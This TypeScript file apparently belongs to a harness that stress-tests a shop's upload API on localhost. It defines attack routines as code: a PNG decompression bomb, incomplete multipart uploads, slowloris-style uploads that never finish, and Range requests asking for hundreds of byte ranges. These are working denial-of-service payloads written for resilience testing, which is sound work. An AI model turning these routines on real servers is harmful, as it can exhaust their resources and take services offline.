import { deflateSync } from 'node:zlib';
import type { Attack, HostileVisitor } from '../attack.ts';

const BOUNDARY = 'boundary-of-a-hostile-visitor';
const MULTIPART = { 'content-type': `multipart/form-data; boundary=${BOUNDARY}` };

/** A form with a file; without its end, the form is incomplete. */
function form(file: Buffer, isComplete = true): Buffer {
  const head = `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="p.png"\r\nContent-Type: image/png\r\n\r\n`;
  return Buffer.concat([Buffer.from(head), file, Buffer.from(isComplete ? `\r\n--${BOUNDARY}--\r\n` : '')]);
}

function chunk(type: string, data: Buffer): Buffer {
  const bytes = Buffer.alloc(12 + data.length);
  bytes.writeUInt32BE(data.length, 0);
  bytes.write(type, 4, 'latin1');
  data.copy(bytes, 8);
  return bytes;
}

/** A PNG of 30,000 by 30,000 pixels in 100 kB. */
function bomb(): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(30_000, 0);
  header.writeUInt32BE(30_000, 4);
  header[8] = 8;
  header[9] = 2;
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  const data = deflateSync(Buffer.alloc(100_000_000));
  return Buffer.concat([
    signature,
    chunk('IHDR', header),
    chunk('IDAT', data),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

const upload = ({ wire }: Attack, body: Buffer) =>
  wire.send({ path: '/api/uploads', method: 'POST', headers: MULTIPART, body });

/** Visitors that send or read files. */
export const fileKinds: readonly HostileVisitor[] = [
  {
    name: 'picture bombs',
    run: (attack) => {
      const body = form(bomb());
      return attack.repeat(8, () => upload(attack, body));
    },
  },
  {
    name: 'incomplete uploads',
    run: (attack) => {
      const body = form(Buffer.alloc(200_000, 1), false);
      return attack.repeat(16, () => upload(attack, body));
    },
  },
  {
    name: 'uploads that never end',
    run: async (attack) => {
      for (let turn = 0; turn < 60; turn += 1) {
        const socket = attack.wire.connect();
        const head = `POST /api/uploads HTTP/1.1\r\nHost: nl-nl.localhost\r\nContent-Type: ${MULTIPART['content-type']}\r\nContent-Length: 20000000\r\n\r\n`;
        socket.write(head);
        socket.write(form(Buffer.alloc(20_000, 1), false));
      }
      await attack.end();
    },
  },
  {
    name: 'byte ranges',
    getsContent: true,
    run: (attack) =>
      attack.repeat(32, (turn) => {
        const ranges = Array.from({ length: 200 }, (_, n) => `${n * 2}-${n * 2 + (turn % 2)}`).join(',');
        return attack.wire.send({ path: attack.shop.script, headers: { range: `bytes=${ranges}` } });
      }),
  },
];
